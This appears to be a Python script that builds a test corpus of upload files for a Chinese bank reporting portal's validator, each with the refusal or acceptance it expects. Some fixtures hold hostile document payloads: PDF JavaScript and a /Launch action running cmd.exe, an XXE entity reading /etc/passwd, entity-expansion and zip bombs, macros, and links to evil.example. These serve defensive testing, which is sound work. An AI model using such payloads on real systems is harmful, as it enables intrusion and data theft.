        "lookalike_variation_selector.xlsx": (
            edit(template, _set({"A5": "工\ufe00商银行"})),
            _refused(M, "institution_mismatch", "与本次报送的机构", "A5 with a variation selector"),
        ),
        "lookalike_cyrillic_month.xlsx": (
            edit(
                template,
                _without_keywords("工商银行2022年\u0417月小微企业“敢贷愿贷能贷会贷”专项行动进展情况监测表"),
            ),
            _accepted(
                M, "title 2022年З月 (Cyrillic Ze for 3), no properties: the month is the headings' 3月末"
            ),
        ),
        # --- the wrong template, institution, period ----------------------------------------------------
        "plan_as_monthly.xlsx": (
            plan_template,
            _refused(M, "U202", "这不是监测表（附件4）", "the 计划表 uploaded as a 监测表"),
        ),
        "bulk_as_monthly.xlsx": (
            bulk_template,
            _refused(
                M,
                "other_institutions",
                "第 6 行“湖北银行”",
                "the 批量导入 template (two banks) uploaded as a 监测表",
            ),
        ),
        "wrong_institution.xlsx": (
            monthly(institution=OTHER_INSTITUTION),
            _refused(M, "institution_mismatch", "文件中的机构为“湖北银行”", "湖北银行's sheet"),
        ),
        "wrong_month.xlsx": (
            monthly(month=2),
            _refused(M, "period_mismatch", "文件中的报送期为 2022年2月", "the 2022年2月 sheet"),
        ),
        "other_edition.xlsx": (
            edit(template, lambda wb: setattr(wb.properties, "keywords", "xwqy-monitoring-2021;2022-03")),
            _refused(M, "U208", "xwqy-monitoring-2021", "a template of another edition"),
        ),
        # --- tampered layout ---------------------------------------------------------------------------
        "hidden_sheet.xlsx": (
            edit(template, _hidden("hidden")),
            _refused(M, "U203", "隐藏的工作表", "a hidden sheet"),
        ),
        "very_hidden_sheet.xlsx": (
            edit(template, _hidden("veryHidden")),
            _refused(M, "U203", "隐藏的工作表", "a very hidden sheet"),
        ),
        "moved_column.xlsx": (
            edit(template, lambda wb: wb["监测表"].insert_cols(2)),
            _accepted(M, "a blank column inserted before the data: found by its headings"),
        ),
        "inserted_row.xlsx": (
            edit(template, lambda wb: wb["监测表"].insert_rows(3)),
            _accepted(M, "a row inserted above the header: found by its headings"),
        ),
        "moved_merged_header.xlsx": (
            edit(template, _merge_header_moved),
            _accepted(M, "the merged 机构名称 header unmerged and moved down: found by its heading"),
        ),
        # --- the notice's own 附件4 layout (Sheet1, headings on row 5, the data on row 6) ------------------
        **_notice_layout(),
        # --- the plan ----------------------------------------------------------------------------------
        "monthly_as_plan.xlsx": (
            template,
            _refused(P, "U202", "这不是投放计划表（附件3）", "the 监测表 uploaded as a 计划表"),
        ),
        "wrong_institution_plan.xlsx": (
            plan(institution=OTHER_INSTITUTION),
            _refused(P, "institution_mismatch", "文件中的机构为“湖北银行”", "湖北银行's plan"),
        ),
        "wrong_year_plan.xlsx": (plan(year=2021), _refused(P, "U208", "xwqy-plan-2021", "the 2021 plan")),
        "lookalike_title_plan.xlsx": (
            edit(plan_template, _plan_title("\u30a8商银行2022年普惠小微贷款投放计划表", "\u30a8商银行")),
            _refused(P, "institution_mismatch", "与本次报送的机构", "title エ商银行 (Katakana E for 工)"),
        ),
        "plan_formula_without_value.xlsx": (
            edit(plan_template, _set({"C6": "=B6*1.2"}, "计划表")),
            _refused(P, "U206", "是公式且没有计算结果", "C6 a formula without its value"),
        ),
        "plan_moved_row.xlsx": (
            edit(plan_template, _swap_plan_rows),
            _accepted(P, "two region rows swapped: each read by its label"),
        ),
        "plan_far_cell.xlsx": (
            far_cell(plan_template),
            _bounded(P, "the plan plus one number at XFD1048576"),
        ),
        # --- documents ---------------------------------------------------------------------------------
        "empty.pdf": (b"", _refused(D, "D101", "空文件（0 字节）", "a 0-byte .pdf")),
        "oversize.pdf": (None, _refused(D, "D102", "超过上限", "UPLOAD_MAX_BYTES + 2 MB", lazy="oversize")),
        "html.pdf": (
            HTML,
            _refused(D, "D105", "内容不是 PDF（是网页（HTML）文件）", "an HTML page named .pdf"),
        ),
        "exe.pdf": (EXE, _refused(D, "D105", "内容不是 PDF", "an executable named .pdf")),
        "png.docx": (PNG, _refused(D, "D105", "内容不是 Word 文档（是图片）", "an image named .docx")),
        "notes.txt": (TEXT, _refused(D, "D104", "只接受 PDF 或 Word（.docx）文件", "a text file")),
        "workbook.xlsx": (template, _refused(D, "D104", "是 Excel 工作簿", "the 监测表 as a document")),
        "javascript.pdf": (
            pdf_with(b"/OpenAction << /S /JavaScript /JS (app.alert\\('x'\\)) >>"),
            _refused(D, "D108", "JavaScript 脚本", "an /OpenAction running JavaScript"),
        ),
        "javascript_obfuscated.pdf": (
            pdf_with(b"/OpenAction << /S /Java#53cript /J#53 (app.alert\\(1\\)) >>"),
            _refused(D, "D108", "JavaScript 脚本", "/Java#53cript: the name hex-escaped"),
        ),
        "javascript_object_stream.pdf": (
            pdf_object_stream(b"4 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
            _refused(D, "D108", "JavaScript 脚本", "JavaScript inside a compressed object stream"),
        ),
        "launch.pdf": (
            pdf_with(b"/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"),
            _refused(D, "D108", "启动外部程序（Launch）", "a /Launch action"),
        ),
        "encrypted.pdf": (
            pdf_with(trailer_extra=b"/Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -1 >>"),
            _refused(D, "D107", "设置了密码或权限加密", "an encrypted PDF"),
        ),
        "truncated.pdf": (PDF[:-30], _refused(D, "D106", "结尾没有 %%EOF", "a PDF cut short")),
        "macro.docm": (
            docx(main=DOCM_MAIN, extra={"word/vbaProject.bin": cfb("VBA", "PROJECT")}),
            _refused(D, "D109", "启用宏的 Word 文档", "a macro-enabled Word document"),
        ),
        "legacy.doc": (
            cfb("WordDocument", "1Table", "\x05SummaryInformation"),
            _refused(D, "D103", "旧版 Word 97-2003 格式", "a Word 97-2003 .doc"),
        ),
        "encrypted.docx": (
            cfb("EncryptionInfo", "EncryptedPackage"),
            _refused(D, "D107", "设置了打开密码", "a password-encrypted Word file"),
        ),
        "external_template.docx": (
            docx(
                extra={
                    "word/_rels/settings.xml.rels": attached_template,
                    "word/settings.xml": "<w:settings/>",
                }
            ),
            _refused(D, "D113", "引用了文档以外的模板或对象", "attachedTemplate at http://evil.example"),
        ),
        "xxe.docx": (
            docx(document=word_xxe),
            _refused(D, "D111", "<!DOCTYPE、<!ENTITY", "external entity file:///etc/passwd"),
        ),
        "zipbomb.docx": (
            overlapping_bomb("docx"),
            _refused(D, "D110", "疑似压缩炸弹", "900 entries sharing one 16 MB member", isolate=True),
        ),
        "damaged.docx": (docx()[:-40], _refused(D, "D112", "已损坏", "a .docx cut short")),
        # --- bulk import (an officer) ------------------------------------------------------------------
        "bulk_pdf_renamed.xlsx": (PDF, _refused(B, "U105", "是 PDF 文件", "a PDF renamed .xlsx")),
        "bulk_legacy.xls": (cfb("Workbook"), _refused(B, "U103", "旧版 Excel 97-2003 格式", "a .xls")),
        "bulk_encrypted.xlsx": (
            cfb("EncryptionInfo", "EncryptedPackage"),
            _refused(B, "U104", "工作簿设置了打开密码", "an encrypted workbook"),
        ),
        "bulk_macro.xlsm": (
            rezip(bulk_template, add={"xl/vbaProject.bin": cfb("VBA")}),
            _refused(B, "U107", "启用宏的工作簿", "the bulk template with a VBA project"),
        ),
        "bulk_zipbomb.xlsx": (
            overlapping_bomb("xlsx"),
            _refused(B, "U108", "疑似压缩炸弹", "900 entries sharing one 16 MB member", isolate=True),
        ),
        "bulk_billion_laughs.xlsx": (
            with_sheet_xml(bulk_template, bulk_laughs),
            _refused(B, "U109", "<!DOCTYPE、<!ENTITY", "entity expansion in the 批量导入 sheet"),
        ),
        "bulk_truncated.xlsx": (bulk_template[:-100], _refused(B, "U106", "已损坏", "cut short")),
        "bulk_empty.xlsx": (b"", _refused(B, "U101", "空文件（0 字节）", "0 bytes")),
        "bulk_oversize.xlsx": (
            None,
            _refused(B, "U102", "超过上限", "UPLOAD_MAX_BYTES + 2 MB", lazy="oversize"),
        ),
        "bulk_monthly_template.xlsx": (
            template,
            _accepted(
                B, "one bank's 监测表 uploaded as a bulk import: one row, by name and the title's month"
            ),
        ),
        "bulk_rows_100k.xlsx": (
            rows_below(bulk_template, 7, 100_000),
            _refused(B, "U112", "超出门户接收的范围", "100,000 data rows", isolate=True),
        ),
        "bulk_columns_1000.xlsx": (
            edit(bulk_template, _bulk_header_padded(1000)),
            _refused(B, "U112", "超出门户接收的范围", "header padded to 1,000 columns, 机构代码 twice"),
        ),
        "bulk_hidden_sheet.xlsx": (
            edit(bulk_template, _hidden("veryHidden")),
            _refused(B, "U203", "隐藏的工作表", "a very hidden sheet"),
        ),
        "bulk_hyperlink.xlsx": (
            edit(bulk_template, _bulk_cell("D5", '=HYPERLINK("http://evil.example/","1")')),
            _refused(B, "U207", "HYPERLINK 函数", "=HYPERLINK in a value cell"),
        ),
        "bulk_far_cell.xlsx": (
            far_cell(bulk_template),
            _bounded(B, "the bulk template plus one number at XFD1048576"),
        ),
        "bulk_lookalike_codes.xlsx": (
            bulk(hbb_bulk_codes),
            _accepted(B, "row 5 has 机构代码 ІСВС in Cyrillic: the file is taken, that row must be rejected"),
        ),
    }
    return files


def build(out_dir: Path) -> dict[str, dict]:
    """Write every stored file of the corpus into `out_dir`; the manifest (also returned) next to it."""
    out_dir = Path(out_dir)
    out_dir.mkdir(parents=True, exist_ok=True)
    manifest = {}
    for name, (content, entry) in sorted(corpus().items()):
        entry = {"isolate": False, "lazy": None, **entry}
        manifest[name] = entry
        if content is not None:
            (out_dir / name).write_bytes(content)
    return manifest


def write_manifest(manifest: dict, path: Path) -> None:
    path.write_text(
        json.dumps(manifest, ensure_ascii=False, indent=2, sort_keys=True) + "\n", encoding="utf-8"
    )


def main(argv: list[str]) -> int:
    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "portal.settings")
    import django

    django.setup()
    if argv:
        out_dir = Path(argv[0])
        manifest_path = out_dir / "corpus.json"
    else:
        out_dir, manifest_path = HERE / "corpus", HERE / "corpus.json"
    manifest = build(out_dir)
    write_manifest(manifest, manifest_path)
    total = sum(p.stat().st_size for p in out_dir.iterdir() if p.name in manifest)
    print(f"{len(manifest)} entries, {total / 1024:.0f} KB in {out_dir}; manifest {manifest_path}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
